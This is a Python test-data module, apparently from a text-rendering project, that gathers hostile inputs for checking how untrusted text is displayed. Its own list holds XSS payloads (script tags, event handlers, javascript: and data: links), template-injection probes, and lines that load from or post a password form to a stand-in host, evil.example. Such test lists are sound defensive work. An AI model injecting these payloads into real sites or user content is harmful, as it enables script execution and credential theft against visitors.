"""Texts that do harm where they are not expected: our own, and larger collections where they lie.

The collections are other people's, and are not committed: they are read from the folder beside
this one. Every run says which texts it had.
"""

import json
from typing import Any

from ethreader.base.paths import ROOT

SHARED = ROOT.parent / "shared" / "data"
SPAM_TABLE = SHARED / "spam_train.csv"  # With the columns `spam`, `text` and `video`.
COLLECTIONS = ("xss_payloads.json", "naughty_strings.json")

OWN_TEXTS = [
    "",
    " ",
    "NULL",
    "undefined",
    "<script>window.ran = 1</script>",
    "</textarea><script>window.ran = 1</script>",
    '"><img src=x onerror="window.ran = 1">',
    "'><svg onload=alert(1)>",
    "<b>bold</b> & &lt;i&gt;",
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt:alert(1))",
    "[press](data:text/html,<script>alert(1)</script>)",
    "![picture](https://tracker.example/pixel.png)",
    '<https://example.org/?a=1&b=">',
    'https://example.org/" onmouseover="alert(1)',
    "{{ 7 * 7 }}",
    "{% raw %}${7*7}<%= 7 %>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><iframe src=//evil.example>\n```",
    "> quote\n\n1. one\n2. two\n- three",
    "\x00",
    "\u202eRight to left",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L",
    "👩‍👩‍👧‍👦 🏳️‍🌈 ｆｕｌｌ",
    "a" * 81,
    "<style>@import 'https://evil.example/'</style>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0>",
]


def _texts_of(name: str) -> list[str]:
    path = SHARED / name
    rows: list[Any] = json.loads(path.read_text(encoding="utf-8")) if path.exists() else []
    return [row if isinstance(row, str) else row["payload"] for row in rows]


def hostile_texts() -> list[str]:
    """Return all collections that are at hand, and our own texts in any case."""
    return [*(text for name in COLLECTIONS for text in _texts_of(name)), *OWN_TEXTS]


def what_is_at_hand() -> str:
    """Return the line about them that stands above the results of a run."""
    told = [f"{name}: {len(_texts_of(name)) or 'missing'}" for name in COLLECTIONS]
    return f"hostile texts: our own: {len(OWN_TEXTS)}, {', '.join(told)}"
